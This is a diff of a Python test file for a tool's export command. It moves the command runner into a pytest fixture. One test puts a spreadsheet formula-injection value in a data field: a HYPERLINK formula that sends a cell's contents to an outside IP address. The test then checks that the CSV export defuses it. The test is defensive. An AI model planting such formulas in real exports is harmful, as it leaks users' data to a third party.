@@ -16,19 +16,19 @@ from iolab.files import canonical_json
 from iolab.store.raw import RawStore, block_key
 from iolab.store.tidy import write_tables
 from tests.support import synthetic
-from tests.support.command import ARGV, iolab
+from tests.support.command import ARGV, Iolab
 from tests.support.processes import child_environment
 from tests.support.results import TARGET, block, write_results
 
 
-def test_export_of_what_is_no_sweep_is_one_sentence(tmp_path: Path) -> None:
+def test_export_of_what_is_no_sweep_is_one_sentence(iolab: Iolab, tmp_path: Path) -> None:
     told = iolab("export", tmp_path, "--root", tmp_path)
     assert (told.code, "no such file; is this a folder of results?" in told.one_line()) == (2, True)
     told = iolab("export", "--canonical", tmp_path, "--root", tmp_path)
     assert (told.code, "holds no finished sweep" in told.one_line()) == (1, True)
 
 
-def test_export_writes_every_cell(tmp_path: Path, root: Path) -> None:
+def test_export_writes_every_cell(iolab: Iolab, tmp_path: Path, root: Path) -> None:
     store = RawStore(root)
     made = block()
     key = block_key(made, TARGET)
@@ -43,7 +43,9 @@ def test_export_writes_every_cell(tmp_path: Path, root: Path) -> None:
 
 
 @pytest.mark.parametrize("given", ["iolab-block/1", "iolab-block/99"])
-def test_export_of_another_format_is_one_sentence(tmp_path: Path, root: Path, given: str) -> None:
+def test_export_of_another_format_is_one_sentence(
+    iolab: Iolab, tmp_path: Path, root: Path, given: str
+) -> None:
     store = RawStore(root)
     made = block()
     key = block_key(made, TARGET)
@@ -58,7 +60,7 @@ def test_export_of_another_format_is_one_sentence(tmp_path: Path, root: Path, gi
     assert f"{path}: its format is '{given}', this iolab reads" in told.one_line()
 
 
-def test_export_writes_archives_for_pyperf(tmp_path: Path) -> None:
+def test_export_writes_archives_for_pyperf(iolab: Iolab, tmp_path: Path) -> None:
     folder = synthetic.write(synthetic.dataset(boots=2), tmp_path / "data")
     told = iolab("export", folder, "--pyperf", tmp_path / "archives")
     sides = ("control", "weight-100", "weight-1000", "weight-3000", "weight-10000")
@@ -97,7 +99,7 @@ def test_export_into_a_closed_pipe_leaves_no_traceback(tmp_path: Path) -> None:
     assert "Exception ignored" not in error
 
 
-def test_a_spreadsheet_finds_no_formula_in_csv(tmp_path: Path) -> None:
+def test_a_spreadsheet_finds_no_formula_in_csv(iolab: Iolab, tmp_path: Path) -> None:
     data = synthetic.dataset(boots=2)
     formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
     cells = data.cells.assign(gate=formula, idle=-1.5)
@@ -109,7 +111,7 @@ def test_a_spreadsheet_finds_no_formula_in_csv(tmp_path: Path) -> None:
     assert {cell["gate"] for cell in json.loads(iolab("export", folder, "--json").out)} == {formula}
 
 
-def test_export_prints_cells_as_json_or_csv(tmp_path: Path) -> None:
+def test_export_prints_cells_as_json_or_csv(iolab: Iolab, tmp_path: Path) -> None:
     data = synthetic.dataset(boots=2)
     folder = synthetic.write(data, tmp_path / "data")
     told = iolab("export", folder, "--json")
